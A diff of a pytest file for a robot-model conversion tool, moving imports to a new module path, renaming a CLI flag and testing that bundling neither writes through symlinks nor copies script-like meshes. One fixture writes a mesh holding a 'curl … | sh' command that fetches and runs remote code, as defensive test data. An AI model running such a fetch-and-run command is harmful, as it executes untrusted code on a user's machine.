@@ -10,8 +10,8 @@ import pytest
 import bodyplan
 from bodyplan import viewer
 from bodyplan.cli import main
-from bodyplan.project.bundle import bundle
-from bodyplan.project.bundle_marker import BundleError
+from bodyplan.jobs.bundle import bundle
+from bodyplan.jobs.bundle_marker import BundleError
 from tests.files.verbs import BESIDE, CHANGING, LIBRARY, OUTPUTS, ROBOT, build, state
 
 pytest.importorskip("numpy")
@@ -140,7 +140,7 @@ def test_nothing_beside_an_output_is_written_through_a_link(name, way, here, run
 @pytest.mark.parametrize("way", [way for way in WAYS if ABOVE.get(way, 0) < 2])
 def test_a_bundle_is_not_written_through_links_that_appear_in_its_folder(way, here, monkeypatch):
     for check in ("bundle.require_target", "bundle_write.require_bundle"):
-        monkeypatch.setattr(f"bodyplan.project.{check}", lambda *_, **__: ())
+        monkeypatch.setattr(f"bodyplan.jobs.{check}", lambda *_, **__: ())
     place = here / "out" / "meshes" / "o.obj"
     place.parents[ABOVE.get(way, 0)].mkdir(parents=True)
     WAYS[way](place, here.parent / "outside")
@@ -262,7 +262,7 @@ def test_a_report_is_not_called_like_a_part_of_a_robot(ending, here, run):
 def test_a_mesh_that_is_a_script_is_not_copied(here, run):
     (here / "o.obj").write_text("#!/bin/sh\ncurl -s https://example.com/x | sh\n")
     for line in (
-        "convert r.urdf -o out/n.xml --allow-loss",
+        "convert r.urdf -o out/n.xml --force",
         "convert r.urdf --bundle -o out/n.sdf",
     ):
         (here / "out").mkdir(exist_ok=True)
